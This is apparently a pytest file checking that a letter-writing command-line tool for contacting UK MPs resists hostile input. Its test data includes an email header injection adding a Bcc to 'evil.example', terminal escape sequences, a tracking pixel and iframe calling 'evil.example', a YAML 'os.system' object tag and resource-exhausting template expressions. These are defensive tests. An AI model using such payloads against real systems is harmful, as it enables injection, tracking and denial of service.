"""Hostile and unlucky input, as users meet it: every case ends in a clear message and a
documented exit code, nothing private is readable by others, nothing loads from elsewhere."""

from __future__ import annotations

import email
import email.policy
import io
import os
import signal
import socket
import stat
import subprocess
import sys
import threading
import time
from pathlib import Path
from typing import Any

import docx
import pytest
from hypothesis import given
from hypothesis import strategies as st

from tests.fakes import FakeServices
from tests.helpers import run

BASE = [
    "letter",
    "write",
    "--postcode",
    "nr2 1ab",
    "--name",
    "Alex Example",
    "--address",
    "1 High Street, Norwich",
    "--date",
    "2026-11-25",
    "--offline",
]
POSIX = pytest.mark.skipif(os.name != "posix", reason="POSIX permissions")


def write(*extra: str, **kwargs: Any) -> Any:
    return run(*BASE, *extra, **kwargs)


def campaign_with_template(folder: Path, body: str, front: str = "") -> Path:
    (folder / "letter_templates").mkdir(parents=True, exist_ok=True)
    (folder / "letter_templates" / "t.md.j2").write_text(
        f"---\ntitle: T\ndescription: d\n{front}---\nDear {{{{ mp.address_as }}}},\n\n{body}\n\n"
        "Yours sincerely,\n\n{{ sender.name }}\n",
        encoding="utf-8",
    )
    return folder


# --- private files ----------------------------------------------------------------------


@POSIX
def test_letters_config_and_their_folders_are_private(
    tmp_path: Path, isolated_environment: Path
) -> None:
    out = tmp_path / "new" / "deeper" / "letter.txt"
    assert write("--template", "thank-you", "--output", str(out)).exit_code == 0
    assert run("config", "set", "name", "Alex Example").exit_code == 0

    assert stat.S_IMODE(out.stat().st_mode) == 0o600
    assert stat.S_IMODE(out.parent.stat().st_mode) == 0o700
    assert stat.S_IMODE((tmp_path / "new").stat().st_mode) == 0o700
    config = isolated_environment / "config.toml"
    assert stat.S_IMODE(config.stat().st_mode) == 0o600
    assert stat.S_IMODE(isolated_environment.stat().st_mode) == 0o700


@POSIX
def test_an_existing_folder_keeps_its_permissions(tmp_path: Path) -> None:
    tmp_path.chmod(0o755)
    assert write("--template", "thank-you", "--output", str(tmp_path / "l.md")).exit_code == 0
    assert stat.S_IMODE(tmp_path.stat().st_mode) == 0o755
    assert stat.S_IMODE((tmp_path / "l.md").stat().st_mode) == 0o600


# --- email addresses --------------------------------------------------------------------


@pytest.mark.parametrize(
    "address", ["bad", "a@", "a b@example.org", "a@b", "a@example.org, b@x.io"]
)
def test_invalid_email_is_refused_everywhere(address: str) -> None:
    saved = run("config", "set", "email", address)
    flag = write("--template", "thank-you", "--email", address, "--format", "eml")

    for result in (saved, flag):
        assert result.exit_code == 2
        assert "not a valid email address" in result.stderr
        assert "Traceback" not in result.stderr


def test_email_check_is_a_library_function_with_a_reason_code() -> None:
    from actkit.emails import check_email
    from actkit.errors import InvalidEmail

    assert check_email(" Alex@Example.ORG ") == "Alex@example.org"  # domain lower-cased
    assert check_email("jörg@example.de") == "jörg@example.de"  # reserved domains are fine
    with pytest.raises(InvalidEmail) as refused:
        check_email(5)
    assert refused.value.reason == "invalid email"


@pytest.mark.parametrize(
    ("address", "smtputf8"),
    [("jörg@example.de", True), ("alex@münchen.de", False), ("用户@例子.广告", True)],
)
def test_international_addresses_make_a_readable_eml(
    tmp_path: Path, address: str, smtputf8: bool
) -> None:
    out = tmp_path / "letter.eml"
    result = write(
        "--template", "thank-you", "--name", "Jörg Ünal", "--email", address, "-o", str(out)
    )

    assert result.exit_code == 0, result.stderr
    raw = out.read_bytes()
    if not smtputf8:
        raw.split(b"\r\n\r\n")[0].decode("ascii")  # 7-bit headers: IDNA, encoded words
    message = email.message_from_string(raw.decode("utf-8"), policy=email.policy.default)
    (sender,) = message["From"].addresses
    assert sender.display_name == "Jörg Ünal"
    assert sender.username == address.split("@")[0]
    assert len(message["To"].addresses) == 1


def test_a_very_long_non_ascii_name_is_shortened_in_headers_only(tmp_path: Path) -> None:
    name = "Jörg " + "ö" * 20_000
    out = tmp_path / "letter.eml"
    result = write(
        "--template", "thank-you", "--name", name, "--email", "j@example.org", "-o", str(out)
    )

    assert result.exit_code == 0, result.stderr
    message = email.message_from_bytes(out.read_bytes(), policy=email.policy.default)
    # Cut to 200 characters (the parser may add spaces where it joins encoded words).
    assert message["From"].addresses[0].display_name.replace(" ", "").endswith("\u2026")
    assert "ö" * 20_000 in message.get_content()  # the signature keeps it whole


def test_mp_email_from_a_service_cannot_add_a_recipient(services: FakeServices) -> None:
    services.add_postcode("NR2 1AB", "England", "Norwich South", "E14001409")
    services.add_mp(
        "Norwich South",
        4500,
        "Clive Lewis",
        "Labour",
        "clive.lewis.mp@parliament.uk,\r\nBcc: spy@evil.example",
    )
    args = [a for a in BASE if a != "--offline"]
    result = run(*args, "--template", "thank-you", "--email", "a@example.org", "--format", "eml")

    assert result.exit_code == 1
    assert "print the letter instead" in result.stderr
    assert "Bcc" not in result.stdout


def test_service_values_are_cleaned_before_the_terminal(services: FakeServices) -> None:
    services.add_postcode("NR2 1AB", "England", "Norwich South", "E14001409")
    services.add_mp(
        "Norwich South", 4500, "Clive \x1b[2J\x1b]0;pwned\x07Lewis", "Lab\u202eour", None
    )

    result = run("lookup", "NR2 1AB")

    assert result.exit_code == 0, result.stderr
    assert "\x1b" not in result.stdout and "\x07" not in result.stdout
    assert "\u202e" not in result.stdout
    assert "Clive" in result.stdout


# --- config.toml edited by hand -----------------------------------------------------------


@pytest.mark.parametrize(
    ("content", "key"),
    [
        ("max_fact_age_days = inf\n", "max_fact_age_days"),
        ("max_fact_age_days = nan\n", "max_fact_age_days"),
        ('max_fact_age_days = "abc"\n', "max_fact_age_days"),
        ("max_fact_age_days = 99999999999999\n", "max_fact_age_days"),
        ("max_fact_age_days = true\n", "max_fact_age_days"),
        ("email = 5\n", "email"),
        ('postcode = "not a postcode"\n', "postcode"),
        ("name = [1, 2]\n", "name"),
    ],
)
def test_a_hand_edited_config_is_checked_on_load(
    isolated_environment: Path, content: str, key: str
) -> None:
    isolated_environment.mkdir(parents=True, exist_ok=True)
    (isolated_environment / "config.toml").write_text(content, encoding="utf-8")

    for result in (run("config", "show"), write("--template", "thank-you")):
        assert result.exit_code == 2
        assert f"config.toml: {key}:" in result.stderr
    assert run("config", "unset", key).exit_code == 0  # the way out works
    assert run("config", "show").exit_code == 0


# --- --output ----------------------------------------------------------------------------


def test_output_extension_rules(tmp_path: Path) -> None:
    tmp_path = tmp_path / "out"
    tmp_path.mkdir()
    contradiction = write("--template", "thank-you", "-f", "md", "-o", str(tmp_path / "a.html"))
    unknown = write("--template", "thank-you", "-o", str(tmp_path / "a.odt"))
    no_extension = write("--template", "thank-you", "-f", "html", "-o", str(tmp_path / "plain"))
    upper = write("--template", "thank-you", "-o", str(tmp_path / "LETTER.HTML"))

    assert contradiction.exit_code == 2 and "contradicts" in contradiction.stderr
    assert unknown.exit_code == 2 and "cannot write .odt" in unknown.stderr
    assert no_extension.exit_code == 0
    assert (tmp_path / "plain").read_text().startswith("<!DOCTYPE html>")
    assert upper.exit_code == 0
    assert (tmp_path / "LETTER.HTML").read_text().startswith("<!DOCTYPE html>")
    assert sorted(p.name for p in tmp_path.iterdir()) == ["LETTER.HTML", "plain"]


def test_output_dash_is_stdout(tmp_path: Path) -> None:
    text = write("--template", "thank-you", "-o", "-", "-f", "md")
    binary = write("--template", "thank-you", "-o", "-", "-f", "docx")

    assert text.exit_code == 0 and text.stdout.startswith("Alex Example")
    assert not (Path.cwd() / "-").exists()
    assert binary.exit_code == 0  # not a terminal here: a pipe or a redirect
    assert docx.Document(io.BytesIO(binary.stdout_bytes)).paragraphs


# --- the prompt for personal words comes last -------------------------------------------


@pytest.mark.parametrize(
    ("extra", "problem"),
    [
        (["--template", "no-such-template"], "no letter template"),
        (["--template", "thank-you", "--format", "eml"], "needs your email address"),
        (["--template", "thank-you", "--date", "2026-02-30"], "is not a date"),
        (["--template", "thank-you", "--output", "/"], ""),
    ],
)
def test_nothing_is_asked_before_every_other_check_has_passed(
    monkeypatch: pytest.MonkeyPatch, extra: list[str], problem: str
) -> None:
    monkeypatch.setattr("actkit.cli._sender.stdin_is_terminal", lambda: True)
    args = [a for a in BASE if a != "--postcode" and a != "nr2 1ab"]
    if "--postcode" not in extra:
        args += ["--postcode", "nr2 1ab"]

    result = run(*args, *extra, input="My own words.\n\n")

    assert result.exit_code in (1, 2)
    assert problem in result.stderr
    assert "in your own words" not in result.stderr


# --- salutations ---------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("display", "greeting"),
    [
        ("Sir Keir Starmer", "Sir Keir Starmer"),
        ("Mr Angus MacDonald", "Angus MacDonald"),
        ("Ms Diane Abbott", "Diane Abbott"),
        ("Dr Rosena Allin-Khan", "Dr Rosena Allin-Khan"),
        ("Clive Lewis", "Clive Lewis"),
    ],
)
def test_one_salutation_rule_for_live_mps(
    services: FakeServices, display: str, greeting: str
) -> None:
    services.add_postcode("NR2 1AB", "England", "Norwich South", "E14001409")
    services.add_mp(
        "Norwich South", 4500, display, "Labour", None, full_title=f"Rt Hon {display} MP"
    )
    args = [a for a in BASE if a != "--offline"]

    result = run(*args, "--template", "thank-you")

    assert result.exit_code == 0, result.stderr
    assert f"\nDear {greeting},\n" in result.stdout
    assert f"\nRt Hon {display} MP\n" in result.stdout  # the address block keeps the title


def test_the_same_rule_applies_offline() -> None:
    from actkit import offline
    from actkit.text import salutation_name

    knighted = next(mp for mp in offline.sitting_mps().values() if mp.name.startswith("Sir "))
    assert salutation_name(knighted.name) == knighted.name


# --- file names ----------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("name", "expected"),
    [("محمد علي", "محمد-علي"), ("张伟", "张伟"), ("Jörg Müller", "jorg-muller"), ("../x", "x")],
)
def test_file_names_keep_non_latin_names_readable(name: str, expected: str) -> None:
    from actkit.fileio import slug

    assert slug(name) == expected


@given(st.text(alphabet=st.characters(max_codepoint=127), max_size=60))
def test_the_quick_ascii_slug_is_the_unicode_slug(name: str) -> None:
    from actkit.fileio import _unicode_slug, slug

    assert slug(name) == _unicode_slug(name, 40)


# --- .docx and other formats take any text --------------------------------------------------


def test_docx_takes_characters_xml_cannot_hold(tmp_path: Path) -> None:
    out = tmp_path / "l.docx"
    weird = "A\x0cB\ufffeC\uffffD\x01E"
    result = write(
        "--template", "thank-you", "--name", weird + "n" * 300, "--personal", weird, "-o", str(out)
    )

    assert result.exit_code == 0, result.stderr
    document = docx.Document(str(out))
    text = "\n".join(p.text for p in document.paragraphs)
    assert "BCD" in text
    assert len(document.core_properties.author) <= 255


def test_page_break_in_a_template_reaches_docx_as_a_space(tmp_path: Path) -> None:
    campaign = campaign_with_template(tmp_path / "c", "Before\x0cafter.")
    out = tmp_path / "l.docx"
    result = write("--campaign", str(campaign), "--template", "t", "-o", str(out))

    assert result.exit_code == 0, result.stderr
    assert "Before after." in [p.text for p in docx.Document(str(out)).paragraphs]


# --- HTML loads nothing from elsewhere -------------------------------------------------------


def test_html_letters_load_nothing_from_elsewhere(tmp_path: Path) -> None:
    body = (
        "![tracking pixel](https://evil.example/p.gif?who={{ sender.postcode[:3] }})\n\n"
        'Text. <img src="https://evil.example/i.png"> <IFRAME SRC=//evil.example/f></iframe>'
    )
    campaign = campaign_with_template(tmp_path / "c", body)

    html = write("--campaign", str(campaign), "--template", "t", "-f", "html")
    markdown = write("--campaign", str(campaign), "--template", "t", "-f", "md")
    text = write("--campaign", str(campaign), "--template", "t", "-f", "txt")

    assert html.exit_code == 0, html.stderr
    for output in (html.stdout, markdown.stdout, text.stdout):
        assert "evil.example" not in output
        assert "tracking pixel" in output
    assert "<img" not in html.stdout
    assert '<meta http-equiv="Content-Security-Policy" content="default-src' in html.stdout


def test_event_plans_carry_the_same_policy() -> None:
    from actkit.formats import CONTENT_SECURITY_POLICY
    from actkit.formats.events import _HTML_TEMPLATE

    assert "Content-Security-Policy" in _HTML_TEMPLATE
    assert "default-src 'none'" in CONTENT_SECURITY_POLICY


# --- campaign files --------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("yaml_text", "where"),
    [
        ("[" * 500 + "]" * 500, ":1: (file): nested more than"),
        ("- id: x\n  statement: !!bool x\n", ":2: [1].statement:"),
        ("- id: x\n  as_of: !!timestamp x\n", ":2: [1].as_of:"),
        ("- id: x\n  statement: !!python/object:os.system x\n", ":2: [1].statement:"),
    ],
)
def test_broken_facts_files_are_file_line_field_problem(
    tmp_path: Path, yaml_text: str, where: str
) -> None:
    (tmp_path / "facts").mkdir()
    (tmp_path / "facts" / "facts.yaml").write_text(yaml_text, encoding="utf-8")

    result = run("facts", "list", "--campaign", str(tmp_path))

    assert result.exit_code == 2
    assert where in result.stderr
    assert "Traceback" not in result.stderr


@pytest.mark.parametrize("character", ["\ue000", "\ue001", "\ue002", "\ue010", "\uf8ff"])
@pytest.mark.parametrize("place", ["body", "front"])
def test_private_use_characters_in_a_template_are_refused(
    tmp_path: Path, character: str, place: str
) -> None:
    if place == "body":
        campaign = campaign_with_template(tmp_path, f"x{character}9{character}")
    else:
        campaign = campaign_with_template(tmp_path, "x", front=f"subject: a{character}\n")

    result = write("--campaign", str(campaign), "--template", "t", "--personal", "p")

    assert result.exit_code == 2
    line = 7 if place == "body" else 4
    assert f"t.md.j2:{line}: {'body' if place == 'body' else 'front matter'}:" in result.stderr


# --- template limits -------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("body", "problem"),
    [
        ('{{ "a" * 10**9 }}', "builds a value of 1,000,000,000"),
        ('{{ 10**9 * ["a"] }}', "builds a value"),
        ('{{ "a" | replace("a", "a" * 1000) | replace("a", "a" * 1000) }}', "builds a value"),
        ('{{ "abc".replace("a", "a" * 1000).replace("a", "b" * 1000) }}', "builds a value"),
        ('{% set x = "a" * 400000 %}{{ x ~ x }}', "builds a value"),
        ('{% set x = "a" * 400000 %}{{ x | replace("a", "bb") }}', "builds a value of 800,000"),
        ('{{ (["a"] * 10) | join("x" * 100000) }}', "builds a value"),
        ('{{ "%999999999d" % 1 }}', "width of a million"),
        ('{{ "{:>999999999}".format(1) }}', "width of a million"),
        ('{{ "a" | center(10**9) }}', "builds a value"),
        ('{{ "a".ljust(10**9) }}', "builds a value"),
        ("{{ 2 ** (10**9) }}", "number too large"),
        ('{% for i in range(99999) %}{{ "0123456789" }}{% endfor %}', "output is longer"),
    ],
)
def test_templates_cannot_exhaust_the_machine(tmp_path: Path, body: str, problem: str) -> None:
    campaign = campaign_with_template(tmp_path, body)

    result = write("--campaign", str(campaign), "--template", "t", "--personal", "p")

    assert result.exit_code == 2
    assert "t.md.j2" in result.stderr
    assert problem in result.stderr


def test_a_template_that_never_ends_is_stopped(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("actkit.sandbox.MAX_SECONDS", 0.2)
    loop = "{% for i in range(100000) %}{% for j in range(100000) %}{% endfor %}{% endfor %}"
    campaign = campaign_with_template(tmp_path, loop)

    result = write("--campaign", str(campaign), "--template", "t", "--personal", "p")

    assert result.exit_code == 2
    assert "took longer than 0.2 seconds" in result.stderr


def test_ordinary_templates_are_not_limited(tmp_path: Path) -> None:
    body = '{% for i in range(300) %}{{ "word " * 20 }}{{ i ** 3 }} {% endfor %}'
    campaign = campaign_with_template(tmp_path, body)

    assert write("--campaign", str(campaign), "--template", "t").exit_code == 0


# --- bytes that are not UTF-8 on the command line -------------------------------------------

UNDECODABLE = b"caf\xe9".decode("utf-8", "surrogateescape")


@pytest.mark.parametrize(
    "args",
    [
        ["lookup", UNDECODABLE],
        ["letter", "write", "--template", "blank", "--name", UNDECODABLE],
        ["config", "set", "name", UNDECODABLE],
        ["templates", "show", UNDECODABLE],
        ["facts", "show", UNDECODABLE],
        ["init", UNDECODABLE],
    ],
)
def test_undecodable_arguments_are_refused(args: list[str]) -> None:
    result = run(*args)

    assert result.exit_code == 2
    assert "not UTF-8" in result.stderr


def test_undecodable_arguments_from_a_real_shell(tmp_path: Path) -> None:
    env = {**os.environ, "LC_ALL": "C.UTF-8", "PYTHONUTF8": "1"}
    completed = subprocess.run(
        [sys.executable, "-m", "actkit", "lookup", os.fsencode(UNDECODABLE)],
        env=env,
        capture_output=True,
        check=False,
        timeout=60,
    )

    assert completed.returncode == 2
    assert b"Traceback" not in completed.stderr


# --- stopping -------------------------------------------------------------------------------


@pytest.mark.slow
@pytest.mark.skipif(os.name != "posix", reason="POSIX signals")
def test_a_second_ctrl_c_stops_at_once_while_the_service_hangs(tmp_path: Path) -> None:
    listener = socket.socket()
    listener.bind(("127.0.0.1", 0))
    listener.listen(16)
    held: list[socket.socket] = []
    stop = threading.Event()

    def accept_and_never_answer() -> None:
        listener.settimeout(0.2)
        while not stop.is_set():
            try:
                held.append(listener.accept()[0])
            except OSError:
                continue

    thread = threading.Thread(target=accept_and_never_answer, daemon=True)
    thread.start()
    url = f"http://127.0.0.1:{listener.getsockname()[1]}"
    env = {
        **os.environ,
        "ACTKIT_HOME": str(tmp_path / "home"),
        "ACTKIT_POSTCODES_API": url,
        "ACTKIT_MEMBERS_API": url,
    }
    process = subprocess.Popen(
        [sys.executable, "-m", "actkit", "lookup", "NR2 1AB"],
        env=env,
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
    )
    try:
        deadline = time.monotonic() + 30
        while not held and time.monotonic() < deadline:  # wait until it is stuck on us
            time.sleep(0.05)
        assert held, "actkit never connected"
        process.send_signal(signal.SIGINT)
        time.sleep(0.2)
        process.send_signal(signal.SIGINT)
        # Far below the ~40 s the retries would take; generous for a loaded machine.
        returncode = process.wait(timeout=15)
    finally:
        process.kill()
        stop.set()
        for connection in held:
            connection.close()
        listener.close()
    assert returncode == 130
    assert b"Traceback" not in process.stderr.read()  # type: ignore[union-attr]


def test_a_batch_row_with_nothing_to_say_fails_as_an_empty_letter(tmp_path: Path) -> None:
    import csv

    supporters = tmp_path / "s.csv"
    supporters.write_text(
        "name,address,postcode,personal\nAda,1 St,NR2 1AB,\nBo,2 St,NR2 1AB,My own words.\n",
        encoding="utf-8",
    )
    out = tmp_path / "o"
    args = ["letter", "batch", str(supporters), "-t", "blank", "--out", str(out), "--offline"]

    result = run(*args, "--date", "2026-11-25")

    assert result.exit_code == 1
    with (out / "manifest.csv").open(encoding="utf-8-sig") as handle:
        rows = {row["name"]: row for row in csv.DictReader(handle)}
    assert rows["Ada"]["status"] == "failed" and "would be empty" in rows["Ada"]["error"]
    assert rows["Bo"]["status"] == "ok"
    assert "1 empty letter" in result.stderr


@POSIX
def test_batch_drafts_manifest_and_folder_are_private(tmp_path: Path) -> None:
    supporters = tmp_path / "s.csv"
    supporters.write_text("name,address,postcode\nAda,1 St,NR2 1AB\n", encoding="utf-8")
    out = tmp_path / "o"

    result = run(
        "letter", "batch", str(supporters), "-t", "thank-you", "--out", str(out), "--offline"
    )

    assert result.exit_code == 0, result.stderr
    assert stat.S_IMODE(out.stat().st_mode) == 0o700
    files = list(out.iterdir())
    assert {p.name for p in files} >= {"manifest.csv"} and len(files) >= 2
    for path in files:
        assert stat.S_IMODE(path.stat().st_mode) == 0o600, path.name
